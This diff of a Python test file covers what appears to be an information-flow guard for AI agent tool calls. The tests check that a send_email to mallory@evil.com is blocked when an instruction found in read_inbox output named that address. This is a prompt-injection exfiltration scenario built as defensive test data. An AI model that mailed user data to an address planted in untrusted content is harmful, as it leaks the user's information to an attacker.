@@ -197,7 +197,7 @@ async def test_a_recipient_taken_from_an_email_is_flagged_and_the_users_own_pass
     assert evil.status == "blocked"
     assert evil.output["reason"] == (
         "flows: send_email sends messages: to mallory@evil.com first seen in the result of "
-        "read_inbox, call 2"
+        "read_inbox, call 2, named by an instruction there"
     )
     assert own.status == "ok"  # in the user's own message (case and spaces normalized)
     assert nested.status == "blocked"
@@ -225,9 +225,13 @@ async def test_a_recipient_taken_from_an_email_is_flagged_and_the_users_own_pass
     )
 
 
-async def test_a_value_a_trusted_result_showed_too_is_not_flagged() -> None:
+@pytest.mark.parametrize(("flag", "status"), [("untrusted", "ok"), ("instructed", "blocked")])
+async def test_a_value_a_trusted_result_showed_too(flag: str, status: str) -> None:
+    """``flag="untrusted"``: a value a trusted result shows too is the user's data;
+    ``flag="instructed"``: an untrusted instruction named it, and what the trusted
+    result shows does not clear it (only the user's own messages do)."""
     pipe = Pipeline()
-    policy(pipe, sink="allow")
+    policy(pipe, sink="allow", flag=flag)
     mail = Mail([])
     async with pipe.turn(agent_id="a", session_key="s1") as turn:
         await turn.call_tool("get_contacts", {}, call=lambda a: [{"email": "mallory@evil.com"}])
@@ -235,7 +239,7 @@ async def test_a_value_a_trusted_result_showed_too_is_not_flagged() -> None:
         out = await turn.call_tool(
             "send_email", {"to": "mallory@evil.com", "body": "x"}, call=mail.send_email
         )
-    assert out.status == "ok"
+    assert out.status == status
 
 
 # -- the sink rules ----------------------------------------------------------------------------
@@ -457,7 +461,8 @@ def test_interpose_check_shows_the_flow_rules(tmp_path: Path) -> None:
     )
     assert check.returncode == 0, check.stderr
     assert (
-        "flows: sinks after untrusted input: allow; flagged values: block; secrets: ask; "
+        "flows: sinks after untrusted input: allow (allow when asked for); flagged values "
+        "(instructed): block; secrets: ask; "
         f"project {tmp_path.resolve()}"
     ) in check.stdout
 
